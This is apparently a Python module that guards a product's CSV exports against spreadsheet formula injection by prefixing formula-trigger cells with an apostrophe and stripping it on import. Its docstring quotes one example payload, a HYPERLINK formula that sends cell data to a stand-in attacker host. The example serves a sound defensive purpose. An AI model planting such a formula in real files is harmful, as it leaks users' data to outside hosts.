"""CSV that a spreadsheet cannot run: every CSV CX Pilot writes goes through :func:`writer`.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (OWASP, "CSV Injection"): a respondent's
verbatim such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would become a live
link in the CX team's spreadsheet. Such a cell is written with a leading apostrophe, which
spreadsheets show as text and hide; a plain number (``-3``, ``+4.5``) is left as it is, and a text that itself starts with
apostrophes before a trigger gets one more, so that every text reads back as it was. The
import formats read the apostrophe back off (:func:`restore`, :data:`RESTORE_PATTERN`), so an
exported file imports unchanged.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")
#: A cell written by :func:`safe_cell`: the apostrophe it added, then the cell, which starts
#: with a formula trigger (after any apostrophes of its own).
RESTORE_PATTERN = r"^'('*[=+\-@\t\r])"
_QUOTED_TRIGGER = re.compile(r"'+[=+\-@\t\r]")
_RESTORE = re.compile(RESTORE_PATTERN)


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it and never runs it."""
    if not isinstance(value, str):
        return value
    if value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    if _QUOTED_TRIGGER.match(value):  # its own apostrophe: one more, so it reads back the same
        return "'" + value
    return value


def restore(value: str) -> str:
    """The cell as it was before :func:`safe_cell` (a no-op on any other text)."""
    return _RESTORE.sub(r"\1", value, count=1)


class SafeWriter:
    """:func:`csv.writer` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **options: Any) -> SafeWriter:
    """A CSV writer on ``out`` (``csv.writer``'s options) that neutralises formulas."""
    return SafeWriter(out, **options)
